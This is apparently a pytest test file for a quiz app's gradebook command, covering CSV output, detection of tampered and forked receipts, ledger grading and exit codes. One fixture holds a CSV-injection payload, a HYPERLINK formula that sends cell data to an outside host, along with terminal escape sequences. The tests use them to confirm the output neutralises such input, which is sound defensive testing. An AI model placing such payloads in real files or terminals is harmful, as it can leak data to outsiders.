"""The gradebook command: fixture receipts in tmp_path and ledgers (SQLite and PostgreSQL) ->
CSV content, forks, CSV injection, stderr lines, exit codes."""

from __future__ import annotations

import csv
import hmac
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from quizzes.__main__ import main
from quizzes.analysis import assignment_grades
from quizzes.assignments import parse_assignments
from quizzes.bank import get_quiz
from quizzes.gradebook import Gradebook, add_ledger, csv_safe, format_points
from quizzes.identity import self_declared_identity
from quizzes.ledger import Ledger
from quizzes.receipts import canonical_bytes, make_receipt, receipt_to_json, restore_session
from quizzes.session import QuizSession

ROOT = Path(__file__).resolve().parents[2]
KEY = "gradebook test key"
ENV_VAR = "LAB_RECEIPT_KEY"
NOW = datetime(2025, 6, 1, 12, 0, 0, tzinfo=UTC)
#: Different wrong answers: a repeated one would use no attempt.
WRONGS = ("123456", "654321", "111111")
FORMULA_IDS = get_quiz("formulas").question_ids
TOTAL = "Initialization formulas (formulas)"


def _answer(session: QuizSession, question_id: str, correct_on: int | None) -> None:
    """Answer wrong until attempt ``correct_on`` (1-based), then right; None: wrong 3 times."""
    question = session.question(question_id)
    right = question.correct_text(session.current_params(question_id))
    for attempt in range(1, 4):
        correct = attempt == correct_on
        session.submit(question_id, right if correct else WRONGS[attempt - 1], now=NOW)
        if correct:
            return


def _write(path: Path, session: QuizSession, key: str | None = KEY) -> Path:
    path.write_text(receipt_to_json(make_receipt(session, key, "0.1.0", now=NOW)))
    return path


def _identity(name: str, student_id: str):
    return self_declared_identity(name, student_id)


def _resign(receipt: dict) -> dict:
    """Sign ``receipt`` again after a change, as an app with the key would."""
    receipt["signature"] = hmac.new(KEY.encode(), canonical_bytes(receipt), "sha256").hexdigest()
    return receipt


@pytest.fixture
def receipts(tmp_path: Path) -> dict[str, Path]:
    alice = QuizSession(_identity("Alice Martin", "amartin"), "formulas")
    _answer(alice, "he_variance", 1)  # 1.0
    alice1 = make_receipt(alice, KEY, "0.1.0", now=NOW)
    _answer(alice, "xavier_variance", 2)  # 0.75
    _answer(alice, "conv_fan_in", 3)  # 0.5: the second receipt continues the first
    bob = QuizSession(_identity("Bob, Jr.", "bjr"), "formulas")
    _answer(bob, "conv_fan_in", 3)  # 0.5
    carol = QuizSession(_identity("Carol", "carol"), "formulas")
    _answer(carol, "he_variance", 1)
    dave = QuizSession(_identity("Dave", "dave"), "formulas")
    _answer(dave, "he_variance", None)
    practice = QuizSession(_identity("Erin", "erin"), "formulas", mode="practice")
    _answer(practice, "he_variance", 1)
    # Frank: three wrong answers, then an old receipt restored in a second window (the old
    # trick), and a perfect answer there. Two histories that do not continue each other.
    frank = QuizSession(_identity("Frank", "frank"), "formulas")
    frank_old = make_receipt(frank, KEY, "0.1.0", now=NOW)
    _answer(frank, "he_std", None)
    frank_again = restore_session(frank_old, KEY)
    _answer(frank_again, "he_std", 1)
    # Mallory: formula-like name and ID, and (from a hand-signed receipt) escape sequences.
    mallory = QuizSession(_identity('=HYPERLINK("http://x/?"&A1,"click")', "+cmd"), "formulas")
    _answer(mallory, "he_variance", 1)
    mallory_receipt = make_receipt(mallory, KEY, "0.1.0", now=NOW)
    mallory_receipt["student"] += "\x1b]0;pwned\x07\x1b[2J"
    _resign(mallory_receipt)

    files = {
        "alice1": _dump(tmp_path / "alice1.json", alice1),
        "alice2": _write(tmp_path / "alice2.json", alice),
        "bob": _write(tmp_path / "bob.json", bob),
        "carol": _write(tmp_path / "carol.json", carol, key=None),
        "dave": _write(tmp_path / "dave.json", dave),
        "erin": _write(tmp_path / "erin.json", practice),
        "frank1": _write(tmp_path / "frank1.json", frank),
        "frank2": _write(tmp_path / "frank2.json", frank_again),
        "mallory": _dump(tmp_path / "mallory.json", mallory_receipt),
        "bad": tmp_path / "bad.json",
        "other": tmp_path / "other.json",
        "missing": tmp_path / "missing.json",
        "twice": tmp_path / "twice.json",
    }
    text = files["dave"].read_text().replace('"score": 0.0', '"score": 1.0', 1)
    files["dave"].write_text(text)  # Dave raises his own score: the signature breaks
    files["bad"].write_text("{ this is not json")
    files["other"].write_text('{"some": "other json"}')
    bob_text = files["bob"].read_text()
    files["twice"].write_text(bob_text.replace('"student": ', '"student": "Carol", "student": ', 1))
    return files


def _dump(path: Path, receipt: dict) -> Path:
    path.write_text(receipt_to_json(receipt))
    return path


def _run(args: list[str], key: str | None = KEY) -> tuple[int, str]:
    """main() in-process with the key in the environment; returns (exit code, stderr)."""
    stderr = io.StringIO()
    old_env, old_stderr = os.environ.get(ENV_VAR), sys.stderr
    try:
        if key is None:
            os.environ.pop(ENV_VAR, None)
        else:
            os.environ[ENV_VAR] = key
        sys.stderr = stderr
        code = main(args)
    finally:
        sys.stderr = old_stderr
        if old_env is None:
            os.environ.pop(ENV_VAR, None)
        else:
            os.environ[ENV_VAR] = old_env
    return code, stderr.getvalue()


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_gradebook_csv_content(receipts: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "gradebook.csv"
    code, stderr = _run(["grade", *map(str, receipts.values()), "--csv", str(out)])
    assert code == 0
    rows = {row["SIS Login ID"]: row for row in _read_csv(out)}
    assert list(rows) == ["'+cmd", "amartin", "bjr", "frank"]  # sorted by identity key
    alice, bob, frank = rows["amartin"], rows["bjr"], rows["frank"]
    assert alice["Student"] == "Alice Martin" and bob["Student"] == "Bob, Jr."
    # Alice's two receipts form one history: the latest counts.
    assert alice["formulas: He variance of a dense layer (he_variance)"] == "1"
    assert alice["formulas: Xavier variance (xavier_variance)"] == "0.75"
    assert alice["formulas: fan_in of a convolution (conv_fan_in)"] == "0.5"
    assert alice["formulas: He standard deviation (he_std)"] == "0"
    assert alice[TOTAL] == "2.25" and alice[f"{TOTAL} max"] == str(len(FORMULA_IDS))
    assert bob[TOTAL] == "0.5" and alice["Flags"] == bob["Flags"] == ""
    # Frank's receipts fork: no best-of, empty cells and a flag for the instructor.
    assert frank[TOTAL] == "" and frank["formulas: He standard deviation (he_std)"] == ""
    assert "fork" in frank["Flags"]
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("Student,SIS Login ID,formulas: ")
    assert header.endswith(f"{TOTAL},{TOTAL} max,Flags")
    assert len(header.split(",")) >= 2 + len(FORMULA_IDS) + 3

    lines = stderr.strip().splitlines()
    by_file = {
        name: [line for line in lines if str(path) in line] for name, path in receipts.items()
    }
    assert "unsigned" in by_file["carol"][0] and len(by_file["carol"]) == 1
    assert "tampered" in by_file["dave"][0] and len(by_file["dave"]) == 1
    assert "practice" in by_file["erin"][0]
    assert "invalid JSON" in by_file["bad"][0]
    assert "format marker" in by_file["other"][0]
    assert "cannot read" in by_file["missing"][0]
    assert "'student' appears twice" in by_file["twice"][0]
    (fork,) = [line for line in lines if line.startswith("fork:")]
    assert "Frank" in fork and str(receipts["frank1"]) in fork and str(receipts["frank2"]) in fork
    assert "(0 points)" in fork and "(1 points)" in fork
    assert any("2 receipts of Alice Martin" in line and "latest" in line for line in lines)
    assert lines[-1].startswith(f"wrote {out}: 4 students from 6 receipts")
    assert all(name not in out.read_text() for name in ("Carol", "Dave", "Erin"))


def test_csv_cells_cannot_run_as_formulas(receipts: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "gradebook.csv"
    code, stderr = _run(["grade", str(receipts["mallory"]), "--csv", str(out)])
    assert code == 0
    (row,) = _read_csv(out)
    assert row["Student"] == """'=HYPERLINK("http://x/?"&A1,"click")"""
    assert row["SIS Login ID"] == "'+cmd"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The escape sequences of the hand-signed name reach neither the CSV nor the terminal.
    assert "\x1b" not in out.read_text() and "pwned" not in out.read_text()
    assert "\x1b" not in stderr and "\x07" not in stderr


def test_grading_from_the_ledger(ledger_url: str, tmp_path: Path) -> None:
    ledger = Ledger(ledger_url)
    ledger.create_schema()
    ada = QuizSession(_identity("Ada", "ada"), "formulas", ledger=ledger, variant_key="v")
    _answer(ada, "he_variance", 2)  # 0.75: the ledger's best credit for the question
    before = make_receipt(ada, KEY, "0.1.0", now=NOW)
    _answer(ada, "he_std", 1)
    grace = QuizSession(_identity("Grace", "grace"), "signal", ledger=ledger, variant_key="v")
    _answer(grace, "linear_randn_log10_variance", 1)
    # A forged history: Ada's session replayed without the ledger, answered right at once.
    offline = QuizSession(_identity("Ada", "ada"), "formulas", variant_key="v")
    _answer(offline, "he_variance", 1)
    out = tmp_path / "ledger.csv"
    code, stderr = _run(["grade", "--db", ledger_url, "--csv", str(out)], key=None)
    assert code == 0, stderr
    rows = {row["SIS Login ID"]: row for row in _read_csv(out)}
    assert rows["ada"][TOTAL] == "1.75" and rows["ada"]["Student"] == "Ada"
    assert rows["grace"]["Signal propagation (signal)"] == "1"
    assert rows["grace"][TOTAL] == "" and rows["ada"]["Signal propagation (signal)"] == ""
    assert stderr.strip().splitlines()[-1].startswith(f"wrote {out}: 2 students from 4 ledger")
    # Receipts beside the ledger: a start of the ledger's history is fine; a forged one is not.
    good = _dump(tmp_path / "before.json", before)
    forged = _write(tmp_path / "forged.json", offline)
    code, stderr = _run(["grade", str(good), str(forged), "--db", ledger_url, "--csv", str(out)])
    assert code == 0
    rows = {row["SIS Login ID"]: row for row in _read_csv(out)}
    assert rows["ada"][TOTAL] == "1.75" and "disagrees with the ledger" in rows["ada"]["Flags"]
    flagged = [line for line in stderr.splitlines() if "not the start" in line]
    assert len(flagged) == 1 and str(forged) in flagged[0]


def test_key_on_the_command_line_and_custom_env(receipts: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "by_key.csv"
    code, _ = _run(["grade", str(receipts["bob"]), "--csv", str(out), "--key", KEY], key=None)
    assert code == 0 and _read_csv(out)[0][TOTAL] == "0.5"
    os.environ["OTHER_KEY_VAR"] = KEY
    try:
        code, _ = _run(
            ["grade", str(receipts["bob"]), "--csv", str(out), "--key-env", "OTHER_KEY_VAR"],
            key=None,
        )
    finally:
        del os.environ["OTHER_KEY_VAR"]
    assert code == 0


def test_wrong_key_marks_everything_tampered(receipts: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "none.csv"
    code, stderr = _run(["grade", str(receipts["bob"]), "--csv", str(out)], key="wrong")
    assert code == 1 and "tampered" in stderr and not out.exists()


def test_csv_safe() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(f"{start}1+1") == f"'{start}1+1"
    assert [csv_safe(x) for x in ("Ada", "0.75", "", " =1")] == ["Ada", "0.75", "", " =1"]


def test_format_points() -> None:
    assert [format_points(x) for x in (1.0, 0.75, 0.5625, 0.0, 23.0, 1 / 3)] == [
        "1",
        "0.75",
        "0.5625",
        "0",
        "23",
        "0.3333",
    ]


# --- exit codes through the real command line -------------------------------------------------


def _cli(*args: str, key: str | None = KEY) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != ENV_VAR}
    if key is not None:
        env[ENV_VAR] = key
    return subprocess.run(
        [sys.executable, "-m", "quizzes", *args], cwd=ROOT, env=env, capture_output=True, text=True
    )


def test_cli_success_and_nothing_readable(receipts: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "cli.csv"
    ok = _cli("grade", str(receipts["alice1"]), str(receipts["bad"]), "--csv", str(out))
    assert ok.returncode == 0 and "Alice Martin" in out.read_text()
    assert "invalid JSON" in ok.stderr and "Traceback" not in ok.stderr

    unreadable = [str(receipts[name]) for name in ("bad", "other", "missing")]
    none = _cli("grade", *unreadable, "--csv", str(tmp_path / "none.csv"))
    assert none.returncode == 2 and "none of the files" in none.stderr
    assert len(none.stderr.strip().splitlines()) == 4  # one line per file, one summary
    assert "Traceback" not in none.stderr and not (tmp_path / "none.csv").exists()


def test_cli_usage_errors_exit_2_without_traceback(
    receipts: dict[str, Path], tmp_path: Path
) -> None:
    for args in (
        (),
        ("grade",),
        ("grade", str(receipts["bob"])),  # no --csv
        ("grade", "--csv", "x.csv"),  # neither receipts nor --db
        ("grade", str(receipts["bob"]), "--csv", "x.csv", "--key", "k", "--key-env", "V"),
        ("frobnicate",),
    ):
        result = _cli(*args)
        assert result.returncode == 2, args
        assert "usage:" in result.stderr and "Traceback" not in result.stderr
    no_key = _cli("grade", str(receipts["bob"]), "--csv", str(tmp_path / "k.csv"), key=None)
    assert no_key.returncode == 2 and "no receipt key" in no_key.stderr
    assert "Traceback" not in no_key.stderr


def test_an_assignment_quiz_has_the_columns_of_its_questions(tmp_path: Path) -> None:
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.sqlite3'}")
    ledger.create_schema()
    ada = _identity("Ada", "ada")
    session = QuizSession(
        ada, "formulas", assignment="lab1", question_ids=["he_std", "he_variance"], ledger=ledger
    )
    _answer(session, "he_variance", 1)
    seen = Gradebook()
    add_ledger(seen, ledger.rows())
    assert seen.header() == [
        "Student",
        "SIS Login ID",
        "lab1/formulas: He variance of a dense layer (he_variance)",
        "Initialization formulas (lab1/formulas)",
        "Initialization formulas (lab1/formulas) max",
    ]
    # With the assignments file the set has its own title, questions and points, whatever
    # the student tried: Ada's total is out of the set's 3 points, as on the instructor page.
    assignment = parse_assignments(LAB1, "assignments.toml").by_id["lab1"]
    listed = Gradebook.for_assignments([assignment])
    add_ledger(listed, ledger.rows())
    assert listed.header()[2:] == [
        "lab1/formulas: He standard deviation (he_std)",
        "lab1/formulas: He variance of a dense layer (he_variance)",
        "Two He questions (lab1/formulas)",
        "Two He questions (lab1/formulas) max",
    ]
    assert listed.rows() == [["Ada", "ada", "0", "2", "2", "3"]]
    (grade,) = assignment_grades(assignment, ledger.rows())
    assert (grade.points, grade.max_points) == (2.0, 3.0)
    # The grade command reads the same file: its CSV has the same maximum.
    (tmp_path / "assignments.toml").write_text(LAB1)
    out = tmp_path / "book.csv"
    result = _cli(
        "grade", "--db", f"sqlite:///{tmp_path / 'ledger.sqlite3'}", "--csv", str(out),
        "--assignments", str(tmp_path / "assignments.toml"),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert list(csv.reader(io.StringIO(out.read_text())))[1] == ["Ada", "ada", "0", "2", "2", "3"]
    # A mistyped path is named, not taken for "no assignments" in silence.
    typo = _cli(
        "grade", "--db", f"sqlite:///{tmp_path / 'ledger.sqlite3'}", "--csv", str(out),
        "--assignments", str(tmp_path / "assignmnets.toml"),
    )  # fmt: skip
    assert typo.returncode == 0 and "warning: no file" in typo.stderr


#: An assignment whose quiz set holds two questions, the second worth 2 points.
LAB1 = """
[[assignment]]
id = "lab1"
title = "Lab 1"
timezone = "UTC"
due = 2026-12-10T17:00:00
instructions = "Two questions."

[[assignment.quiz]]
id = "formulas"
title = "Two He questions"
questions = ["he_std", "he_variance"]
points = { he_variance = 2 }
schedule = [1.0, 0.5]
"""


def test_a_question_the_quiz_set_no_longer_holds_is_left_out_with_a_note(tmp_path: Path) -> None:
    # Ada answered he_variance and xavier_variance under lab1/formulas; the assignments file
    # now lists he_std and he_variance. The assignment's total leaves xavier_variance out, and
    # so does the gradebook: 2 of 3 points in both, not 3 of 4.
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.sqlite3'}")
    ledger.create_schema()
    session = QuizSession(
        _identity("Ada", "ada"), "formulas", assignment="lab1",
        question_ids=["he_variance", "xavier_variance"], ledger=ledger,
    )  # fmt: skip
    _answer(session, "he_variance", 1)
    _answer(session, "xavier_variance", 1)
    assignment = parse_assignments(LAB1, "assignments.toml").by_id["lab1"]
    book = Gradebook.for_assignments([assignment])
    add_ledger(book, ledger.rows())
    assert book.rows() == [["Ada", "ada", "0", "2", "2", "3"]]
    (grade,) = assignment_grades(assignment, ledger.rows())
    assert (grade.points, grade.max_points) == (2.0, 3.0)
    assert book.notes == [
        "lab1/formulas: question xavier_variance is not in the quiz set of the assignments "
        "file; its attempts are left out"
    ]
